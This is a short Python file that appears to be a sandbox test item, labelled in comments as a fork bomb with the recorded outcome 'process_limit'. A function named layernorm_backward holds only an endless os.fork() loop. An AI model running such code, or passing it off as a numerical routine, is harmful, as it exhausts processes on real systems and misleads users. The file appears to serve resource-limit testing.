# tries: fork for ever
# item: fork bomb
# outcome: process_limit
import os


def layernorm_backward(x, gamma, dy, eps):
    while True:
        os.fork()
